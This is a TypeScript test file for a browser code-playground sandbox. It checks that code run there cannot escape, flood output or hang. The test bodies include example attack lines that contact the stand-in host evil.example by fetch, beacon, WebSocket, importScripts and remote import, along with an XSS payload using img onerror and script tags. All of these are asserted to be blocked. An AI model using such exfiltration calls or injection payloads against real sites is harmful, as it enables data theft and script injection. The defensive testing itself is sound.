/** What code of readers cannot do: SECURITY.md promises it. Each attack runs in the page, from a link. */
import { expect, test } from '@rstest/core'
import { isSameDocument, markDocument, open, serveBuilt } from '../harness.ts'
import { servePlainly } from '../plain-host.ts'
import { block, CART, EDITOR, playgroundSite, runCode, runSample } from './site.ts'

const site = serveBuilt(() => playgroundSite({ index: CART, play: EDITOR }))
const plain = servePlainly(site, '/docs/')
/** Browsers report what the policy of the frame blocks. */
const BLOCKED = { allow: /Content Security Policy|Refused|Failed to|ERR_|violates|Fetch API|WebSocket/ }

const passed = (count: number) => ({ status: `${count} passed` })

/** Code that passes where the attack fails. */
const ATTACKS: [name: string, body: string][] = [
  [
    'the network',
    `const url = 'https://evil.example/'
test('fetch', () => expect(fetch(url)).rejects.toThrow())
test('of the site', () => expect(fetch('/docs/')).rejects.toThrow())
test('beacons', () => expect(navigator.sendBeacon?.(url)).toBeFalsy())
test('requests', () => expect(() => { const r = new XMLHttpRequest(); r.open('GET', url, false); r.send() }).toThrow())
test('sockets', () => expect(new Promise((resolve, reject) => { const s = new WebSocket('wss://evil.example/'); s.onopen = resolve; s.onerror = reject })).rejects.toBeDefined())
test('scripts', () => expect(() => importScripts(url)).toThrow())
test('modules', () => expect((0, eval)('import("https://evil.example/a.js")')).rejects.toThrow())`,
  ],
  [
    'storage',
    `test('databases', () => expect(() => indexedDB.open('a')).toThrow())
test('caches', async () => expect(await (async () => caches.open('a'))().catch(() => 'none')).toBe('none'))
test('cookies and stores', () => expect([typeof cookieStore, typeof localStorage]).toEqual(['undefined', 'undefined']))`,
  ],
  [
    'the page',
    `test('no document', () => expect([typeof document, typeof window, typeof parent, typeof top, typeof open]).toEqual(Array(5).fill('undefined')))
test('an opaque origin', () => expect(self.origin).toBe('null'))
test('no way to post', () => expect([typeof postMessage, typeof BroadcastChannel]).toEqual(['undefined', 'undefined']))
test('nor behind the prototype', () => expect(Object.getPrototypeOf(self).postMessage).toBeUndefined())
test('the address stays', () => { try { location.href = 'https://evil.example/' } catch {} expect(location.protocol).toBe('blob:') })`,
  ],
  [
    'nested workers, and the graphics processor',
    `test('none', () => expect([typeof Worker, typeof SharedWorker]).toEqual(['undefined', 'undefined']))
test('no canvas', () => expect([typeof OffscreenCanvas, 'gpu' in navigator]).toEqual(['undefined', false]))`,
  ],
]

test.each(ATTACKS)('%s', async (_, body) => {
  const page = await open(site, '', BLOCKED)
  const reached: string[] = []
  page.on('requestfinished', (request) => reached.push(request.url()))
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') reached.push(request.url())
  })
  const result = await runCode(page, site.url, body)
  expect(result.lines.filter((line) => !line.startsWith(' ✓'))).toEqual([])
  expect(result).toMatchObject(passed(body.match(/^test\(/gm)?.length ?? 0))
  expect(reached.filter((url) => url.includes('evil.example'))).toEqual([])
})

test.each([
  ['an endless loop', `test('ends', () => { while (true) {} })`],
  ['types that take forever to strip', `const f=()=>{${'async<T>(a='.repeat(40)}x${')'.repeat(40)}};`],
])('%s stops after 5 seconds, the page goes on, and the next run works', async (_, body) => {
  const page = await open(site, '')
  const result = await runCode(page, site.url, body)
  expect(result).toEqual({ lines: [], status: 'Stopped after 5 seconds: the code does not end.' })
  expect((await runSample(page, 'cart.test.ts')).status).toBe(
    'Stopped after 5 seconds: the code does not end.',
  )
  expect((await runCode(page, site.url, `test('ends', () => {})`)).status).toBe('1 passed')
})

test('what a run has left behind ends with it', async () => {
  const page = await open(site, '')
  const ended = page.waitForEvent('worker').then((worker) => worker.waitForEvent('close'))
  await runCode(page, site.url, `test('leaves', () => void setTimeout(() => { while (true) {} }, 1))`)
  await ended
})

test('100 MB of output, 10,000 tests, and replaced built-ins end at 64 kB, with all tests counted', async () => {
  const page = await open(site, '')
  const body = `JSON.stringify = () => ''
JSON.parse = () => 'x'.repeat(1e6)
for (let i = 0; i < 100; i++) console.log('x'.repeat(1e6))
for (let i = 0; i < 10_000; i++) test('number ' + i, () => expect(i).not.toBe(9_999))`
  const { lines, status } = await runCode(page, site.url, body)
  expect(lines.join('\n').length).toBeLessThan(70_000)
  expect(lines).toContain('… The rest is left out: a run prints too much.')
  expect(lines).toContain(' ✗ number 9999')
  expect(status).toBe('9999 passed · 1 failed')
})

test('memory is not limited: a run that takes 1 GB ends, or the browser ends it, and the page goes on', async () => {
  const page = await open(site, '', { allow: /memory|RangeError/ })
  const body = `const all = []
test('takes', () => { for (let i = 0; i < 10; i++) all.push(new Uint8Array(1e8).fill(1)) })`
  const { status } = await runCode(page, site.url, body)
  expect(['1 passed', '1 failed', 'Stopped after 5 seconds: the code does not end.']).toContain(status)
  expect((await runCode(page, site.url, `test('next', () => {})`)).status).toBe('1 passed')
})

test('names, messages and logs with markup are text', async () => {
  const page = await open(site, '')
  await markDocument(page)
  const markup = '<img src=x onerror=alert(1)></pre><script>alert(1)</script>'
  const text = JSON.stringify(markup)
  const { lines } = await runCode(
    page,
    site.url,
    `console.log(${text})\ntest(${text}, () => { throw new Error(${text}) })`,
  )
  expect(lines).toEqual([markup, ` ✗ ${markup}`, `   Error: ${markup}`, '   at a.test.ts:3'])
  expect(await page.locator('.play-output img, .play-output script').count()).toBe(0)
})

test('a link runs and loads nothing of the runner before the click', async () => {
  const page = await open(site, '')
  const ran: string[] = []
  page.on('worker', (worker) => ran.push(worker.url()))
  page.on('request', (request) => request.url().includes('/playground/runtime') && ran.push(request.url()))
  await page.goto(
    `${site.url}play#play=b${Buffer.from('[["a.test.ts","while(true){}"]]').toString('base64url')}`,
  )
  await page.locator('.cm-content').waitFor()
  expect(ran).toEqual([])
  expect(await block(page, 'src/cart.ts').isVisible()).toBe(false)
})

test('the document of the frame does nothing without a sandbox', async () => {
  const page = await open(site, '')
  await runSample(page, 'cart.test.ts')
  const answered = await page.evaluate(async () => {
    const frame = document.createElement('iframe')
    frame.src = document.querySelector<HTMLIFrameElement>('iframe[sandbox]')?.src ?? ''
    let answers = 0
    addEventListener('message', ({ source }) => {
      if (source === frame.contentWindow) answers++
    })
    await new Promise((resolve) => {
      frame.onload = resolve
      document.body.append(frame)
    })
    frame.contentWindow?.postMessage([1, 'postMessage(1)', {}], '*')
    // A message that is sent later arrives later.
    await new Promise((resolve) => {
      addEventListener('message', ({ data }) => data === 'last' && resolve(undefined))
      frame.contentWindow?.setTimeout(() => parent.postMessage('last', '*'))
    })
    return answers
  })
  expect(answered).toBe(0)
})

test('samples run on a host that only serves files', async () => {
  const page = await open(plain, '')
  expect((await runSample(page, 'cart.test.ts')).status).toBe('1 passed · 1 failed')
  expect(await isSameDocument(page)).toBe(false)
})
